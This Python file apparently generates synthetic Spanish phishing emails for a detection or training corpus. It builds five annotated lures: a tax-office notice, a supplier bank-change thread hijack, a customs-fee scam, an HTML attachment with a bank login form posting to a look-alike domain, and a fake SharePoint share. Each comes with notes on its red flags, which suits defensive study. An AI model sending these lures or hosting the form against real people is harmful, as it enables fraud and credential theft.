"""Attack messages, Spanish (5)."""
from mailer import Mail
from mime import Text, Att, Multi
import infra as I
import tmpl as T
from company import S, MAIL, NAME, BANK, TAX
from common import alt, mixed, related, pdf_att, b64s, b64url
import ids

MAILS = []
add = MAILS.append

# ---------------------------------------------------------------- 27 AEAT / DEHú
url27 = 'https://dehu-notificaciones.aeat-sede-electronica.es/acceso?ref=A2841117&nif=%s' % TAX['eg_es']
p27 = """Estimado/a contribuyente:

Le informamos de que tiene una notificación pendiente de comparecencia en la Dirección Electrónica Habilitada única (DEHú), emitida por la Agencia Estatal de Administración Tributaria.

Titular: EXAMPLE GROUP IBERIA S.L. – NIF %s
Órgano emisor: Dependencia Regional de Inspección – Delegación Especial de Aragón
Concepto: Requerimiento de información – Impuesto sobre el Valor Añadido, ejercicio 2025
Referencia: 2026/AEAT/A2841-117
Fecha de puesta a disposición: 17/11/2026

Dispone de 10 días naturales para acceder a la notificación. Transcurrido dicho plazo sin que se acceda a su contenido, la notificación se entenderá rechazada (art. 43.2 de la Ley 39/2015) y se continuará con el procedimiento.

Acceder a la notificación: %s

Necesitará su certificado electrónico o Cl@ve.

Este mensaje se ha generado automáticamente. Por favor, no responda a este correo.
""" % (TAX['eg_es'], url27)
h27 = T.brand_html('Agencia Tributaria', 'Notificación pendiente en la DEHú', [
    'Estimado/a contribuyente:',
    'Le informamos de que tiene una notificación pendiente de comparecencia en la Dirección Electrónica Habilitada única (DEHú), emitida por la Agencia Estatal de Administración Tributaria.'],
    'Acceder a la notificación', url27, color='#9c1b1f', charset='windows-1252', logo_text='Agencia Tributaria · Sede electrónica',
    table=[('Titular', 'EXAMPLE GROUP IBERIA S.L. – NIF %s' % TAX['eg_es']),
           ('Órgano emisor', 'Dependencia Regional de Inspección – Delegación Especial de Aragón'),
           ('Concepto', 'Requerimiento de información – IVA, ejercicio 2025'),
           ('Referencia', '2026/AEAT/A2841-117'), ('Puesta a disposición', '17/11/2026')],
    after_button=['Dispone de 10 días naturales para acceder a la notificación. Transcurrido dicho plazo sin que se acceda a su contenido, la notificación se entenderá rechazada (art. 43.2 de la Ley 39/2015). Necesitará su certificado electrónico o Cl@ve.'],
    footer='Este mensaje se ha generado automáticamente. Por favor, no responda a este correo.')
add(Mail(
    'aeat-dehu-notificacion-pendiente', '2026-11-17 10:44:58', MAIL['es_acc'],
    I.ses(region='eu-west-3', mail_from='correo.aeat-sede-electronica.es'),
    ('Agencia Tributaria', 'notificaciones@aeat-sede-electronica.es'),
    'Aviso de notificación pendiente – Dirección Electrónica Habilitada única (DEHú)',
    alt(p27, h27, 'windows-1252', 'quoted-printable'),
    rcpt_name='Lucía Fernández', hcs='utf-8', henc='Q', sent_delta=2,
    what='"Agencia Tributaria" notice of a pending tax-inspection notification in DEHú with a link to access it with certificate or Cl@ve.',
    why='Look-alike domain aeat-sede-electronica.es via Amazon SES; genuine DEHú notices come from gob.es and point to dehu.redsara.es; the link harvests Cl@ve credentials / certificate PIN.',
    tags=('credential phishing: national tax office', 'bulk ESP abuse (Amazon SES)', 'look-alike domain')))

# ---------------------------------------------------------------- 28 look-alike thread: casing settlement
fake = ids.fmt_iban(BANK['ebro_fake'])
q28 = """De: Lucía Fernández <lucia.fernandez@example.com>
Enviado: lunes, 23 de noviembre de 2026 9:12
Para: Javier Gómez <jgomez@neumaticosebro.es>
Asunto: RE: Liquidación carcasas octubre – F-2026-0871

Hola Javier,

Recibida la factura F-2026-0871 por las 214 carcasas de octubre. Está conforme con los albaranes de la planta; la pagamos en la remesa del viernes, como siempre.

Un saludo,
Lucía
"""
p28 = """Hola Lucía,

Gracias por la confirmación. Una cosa importante antes de que lancéis la transferencia: desde este mes estamos cobrando las liquidaciones de carcasas en una cuenta nueva, porque la de CaixaBank la dejamos solo para los recibos domiciliados. Te paso los datos:

Titular: Neumáticos Ebro S.L.
IBAN: %s

Por favor, haced el pago de la F-2026-0871 (11.838,64 €) a esta cuenta. Si os viene bien, hoy mismo, que tenemos cierre de mes.

Cualquier cosa me dices por aquí, que esta semana estoy en ruta recogiendo carcasas y con poca cobertura.

Un saludo,

Javier Gómez
Responsable de compras y carcasas
Neumáticos Ebro S.L.
Pol. Ind. Malpica, calle E, nave 14 · 50016 Zaragoza
Tel. 976 57 12 40

""" % fake
add(Mail(
    'ebro-carcasas-cuenta-nueva-lookalike', '2026-11-25 08:31:19', MAIL['es_acc'],
    I.m365(obe=1, server='PA4P190MB1324', region='eurp190', lang='es-ES'),
    ('Javier Gómez', 'jgomez@neumaticos-ebro.es'),
    'RE: Liquidación carcasas octubre – F-2026-0871',
    alt(p28 + q28, T.word_html(p28, 'windows-1252', 'ES', quoted=q28), 'windows-1252', 'quoted-printable', quoted=True),
    rcpt_name='Lucía Fernández', hcs='utf-8', henc='B', replies=2, sent_delta=5,
    irt='<5d0c8e2f7a9b41c6b3e1f4a2d8c79e05@EXMBX02.corp.example.com>',
    refs='<DB9PR06MB7745C1A2F93B0E81D4C7A2E6F8B91@DB9PR06MB7745.eurprd06.prod.outlook.com> <5d0c8e2f7a9b41c6b3e1f4a2d8c79e05@EXMBX02.corp.example.com>',
    what='Reply in the real casing-settlement thread asking to pay the casing invoice F-2026-0871 to a "new" account, today.',
    why='Thread continuation from a look-alike domain neumaticos-ebro.es (real: neumaticosebro.es, still visible in the quoted header) in an attacker M365 tenant; new account at a fintech (bank code 1583), urgency, "poor coverage" to avoid a call.',
    tags=('BEC: supplier/carrier bank-detail change', 'thread hijack (look-alike domain)', 'look-alike domain')))

# ---------------------------------------------------------------- 29 Correos / customs fee
url29 = 'https://correos-aduanas-gestion.com/pago/CD942117635ES'
h29 = T.brand_html('Correos', 'Su envío está retenido en aduanas', [
    'Estimado cliente:',
    'Su envío internacional <b>CD942117635ES</b> procedente de Reino Unido (remitente: TREADTEC UK LTD, 1 bulto, 6,2 kg) se encuentra retenido en la Aduana de Madrid-Barajas, pendiente del pago de los gastos de gestión aduanera y del IVA de importación.',
    'Importe pendiente: <b>2,99 €</b>',
    'Si el importe no se abona en un plazo de 72 horas, el envío será devuelto al remitente.'],
    'Pagar y liberar el envío', url29, color='#ffcd00', charset='iso-8859-15', logo_text='Correos',
    footer='Gracias por confiar en Correos. Sociedad Estatal Correos y Telégrafos, S.A., S.M.E.')
add(Mail(
    'correos-aduanas-tasa', '2026-11-19 19:03:41', MAIL['es_mgr'],
    I.exim_cpanel('es-web21.dinahosting-cloud.es', '82.98.135.61', client_ip='127.0.0.1', phpmailer=True,
                  date_zone='ES', cpuser='clinicas'),
    ('Correos Aduanas', 'info@clinicadentalsanvicente.es'),
    'Su envío CD942117635ES está retenido en aduanas',
    Text(h29, 'html', 'iso-8859-15', '8bit'),
    rcpt_name='Raúl Sánchez', sent_delta=2,
    what='"Correos" says an international parcel from a (tread-material) supplier is held at customs pending a 2.99 EUR fee.',
    why='Sent by a PHP script from a compromised dental-clinic website with "Correos" as display name; link to correos-aduanas-gestion.com harvests card data.',
    tags=('credential/payment phishing: courier/customs', 'compromised website (PHPMailer)', 'display-name spoofing')))

# ---------------------------------------------------------------- 30 HTML attachment with login form
form = """<!DOCTYPE html>
<html lang="es"><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1">
<title>Santander Empresas - Firma de remesas</title>
<style>
body{font-family:Arial,Helvetica,sans-serif;background:#f5f5f5;margin:0}
.top{background:#ec0000;color:#fff;padding:14px 24px;font-size:20px;font-weight:bold}
.card{background:#fff;max-width:460px;margin:36px auto;padding:26px 30px;border-radius:4px;box-shadow:0 1px 4px rgba(0,0,0,.15)}
label{display:block;font-size:13px;color:#444;margin:12px 0 4px}
input{width:100%;padding:9px;border:1px solid #bbb;border-radius:3px;font-size:14px;box-sizing:border-box}
button{margin-top:20px;width:100%;background:#ec0000;color:#fff;border:0;padding:12px;font-size:15px;border-radius:3px}
.res{font-size:13px;background:#f7f7f7;border:1px solid #e3e3e3;padding:10px;margin-bottom:8px}
</style></head>
<body>
<div class="top">Santander Empresas</div>
<div class="card">
<p style="margin-top:0"><b>Remesa de transferencias SEPA pendiente de firma</b></p>
<div class="res">Cuenta de cargo: ES50 0049 6714 2025 1614 8833<br>N.º de órdenes: 14 &middot; Importe total: 47.862,30 EUR<br>Fecha de ejecución solicitada: 26/11/2026</div>
<form method="post" action="https://santander-empresas-firma.com/remesas/firma.php">
<label>Código de empresa</label><input name="empresa" type="text">
<label>Código de usuario</label><input name="usuario" type="text">
<label>Clave de acceso</label><input name="clave" type="password">
<label>Clave de firma</label><input name="firma" type="password">
<button type="submit">Firmar remesa</button>
</form>
<p style="font-size:11px;color:#777">Por su seguridad, no comparta sus claves con nadie.</p>
</div></body></html>
"""
p30 = """Estimado cliente:

Tiene pendiente de firma una remesa de transferencias SEPA cargada el 25/11/2026 desde la cuenta ES50 0049 6714 2025 1614 8833.

Número de órdenes: 14
Importe total: 47.862,30 EUR
Fecha de ejecución solicitada: 26/11/2026

Por seguridad, la firma debe realizarse a través del documento adjunto antes de las 14:00 h. Si no se firma en plazo, la remesa quedará anulada y deberá cargarse de nuevo.

Atentamente,
Banco Santander - Santander Empresas
"""
add(Mail(
    'santander-remesa-html-adjunto', '2026-11-26 08:12:55', MAIL['es_acc'],
    I.own_server('mail.santander-empresas-avisos.com', 'vps-e17c42.hostinger-vps.net', '195.35.22.104',
                 client_ip='195.35.22.104', mua='none', date_zone='ES', webmail=True),
    ('Santander Empresas', 'avisos@santander-empresas-avisos.com'),
    'Remesa SEPA pendiente de firma - 14 órdenes (47.862,30 EUR)',
    mixed(Text(p30, 'plain', 'iso-8859-1', 'quoted-printable'),
          Att('Remesa_SEPA_firma_pendiente.html', form.encode('iso-8859-1'), 'text/html; charset=iso-8859-1',
              note='local login form posting to santander-empresas-firma.com; no script')),
    rcpt_name='Lucía Fernández', hcs='iso-8859-1', sent_delta=3,
    what='"Santander Empresas" asks to sign a pending SEPA batch (with the company\'s real account number) using an attached HTML form.',
    why='HTML attachment with a credential form (company code, user, password, signing key) posting to a look-alike domain; sender domain santander-empresas-avisos.com on a VPS; deadline pressure.',
    tags=('HTML attachment (credential form)', 'credential phishing: bank', 'look-alike domain')))

# ---------------------------------------------------------------- 31 fake SharePoint share
url31 = 'https://transportesruiz-my.sharepoint-online-docs.com/:b:/g/personal/pruiz/EYx7Qk2?e=' + b64url(MAIL['es_mgr'])
h31 = T.brand_html('SharePoint', 'Pilar Ruiz ha compartido un archivo con usted', [
    '<b>Pilar Ruiz</b> ha compartido un archivo con usted',
    '<i>"Raúl, te paso el pedido de diciembre para los camiones de Huesca. Revisa las cantidades antes del viernes, por favor."</i>',
    '&#128196; <b>Pedido_Diciembre_2026_neumaticos.pdf</b>'],
    'Abrir', url31, color='#036c70', logo_text='SharePoint',
    after_button=['Este vínculo solo funcionará para los destinatarios directos de este mensaje.'],
    footer='Declaración de privacidad de Microsoft · Microsoft Corporation, One Microsoft Way, Redmond, WA 98052')
add(Mail(
    'sharepoint-falso-pedido-diciembre', '2026-11-30 16:27:14', MAIL['es_mgr'],
    I.mailgun(mgdomain='mg.sharepoint-online-docs.com'),
    ('Pilar Ruiz (a través de SharePoint)', 'no-reply@sharepoint-online-docs.com'),
    'Pilar Ruiz ha compartido «Pedido_Diciembre_2026_neumaticos.pdf» con usted',
    Text(h31, 'html', 'utf-8', 'quoted-printable'),
    rcpt_name='Raúl Sánchez', sent_delta=2,
    what='Fake SharePoint sharing notification "from" a carrier customer with a December tyre order.',
    why='Sender domain sharepoint-online-docs.com via Mailgun (real: no-reply@sharepointonline.com from Microsoft); the link goes to a look-alike "-my.sharepoint-online-docs.com" host carrying the recipient address (Microsoft credential phishing).',
    tags=('brand impersonation: SharePoint', 'credential phishing: Microsoft 365', 'bulk ESP abuse (Mailgun)')))
